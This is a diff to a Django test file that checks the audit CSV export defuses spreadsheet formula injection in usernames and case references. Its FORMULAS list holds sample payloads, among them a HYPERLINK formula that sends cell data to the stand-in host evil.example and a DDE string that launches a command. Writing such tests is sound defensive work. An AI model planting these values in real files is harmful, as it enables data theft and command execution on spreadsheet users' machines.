@@ -6,20 +6,25 @@ account, one form or one config file) would try it.
 - the one cookie is a "__Host-" session cookie in production, and the CSRF token lives and
   dies with the session: no year-long token cookie to plant, lift or outlive a sign-out;
 - nothing of ours, pages or static files, may be loaded into another site's page;
+- a username or reference typed to look like a formula stays text in the audit CSV;
 """
 
 import base64
 import binascii
+import csv
+import io
 
 import pytest
 from cryptography.fernet import Fernet
 from django.test import Client, override_settings
 from django.urls import reverse
 
+from audit import log
+from audit.models import Action
 from config.environment import generate_keys
 from tests.config.test_settings import manage, production_env
 from tests.conftest import form_token, verified_client
-from tests.factories import PASSWORD
+from tests.factories import PASSWORD, UserFactory
 
 LOGIN = reverse("accounts:login")
 CSRF_PAGE = "Form expired"
@@ -177,3 +182,45 @@ def test_pages_refuse_to_be_loaded_by_another_site(client, volunteer_client, adm
     ]
     for response in answers:
         assert response["Cross-Origin-Resource-Policy"] == "same-origin", response
+
+
+# The audit CSV -------------------------------------------------------------------------------
+# What a spreadsheet would run: the first cell sends its neighbours away when clicked.
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A2,"Open")',
+    "+7 999 000-00-00",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _export(admin_client) -> list[list[str]]:
+    response = admin_client.get(reverse("audit:export"))
+    assert response.status_code == 200
+    text = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(text)))[1:]
+
+
+def test_a_username_shaped_like_a_formula_stays_text_in_the_audit_export(admin_client_verified):
+    # "@", "+" and "-" pass Django's username validator: any account name can start so.
+    for name in ("@evil.example", "+79990000000", "-cmd"):
+        log.record(Action.CASE_VIEWED, actor=UserFactory(username=name), target_ref="C-2026-00001")
+    actors = {row[2] for row in _export(admin_client_verified) if row[4] == "C-2026-00001"}
+    assert actors == {"'@evil.example", "'+79990000000", "'-cmd"}
+
+
+def test_a_reference_shaped_like_a_formula_stays_text_in_the_audit_export(
+    admin_client_verified, volunteer
+):
+    for value in FORMULAS:
+        log.record(Action.CASE_VIEWED, actor=volunteer, target_ref=value)
+    targets = [row[4] for row in _export(admin_client_verified) if row[2] == volunteer.username]
+    assert sorted(targets) == sorted("'" + value for value in FORMULAS)
+
+
+def test_plain_cells_of_the_audit_export_are_left_as_they_are(admin_client_verified, volunteer):
+    log.record(Action.CASE_VIEWED, actor=volunteer, target_ref="C-2026-00042")
+    row = next(row for row in _export(admin_client_verified) if row[4] == "C-2026-00042")
+    assert row[2:5] == ["volunteer1", "case_viewed", "C-2026-00042"]
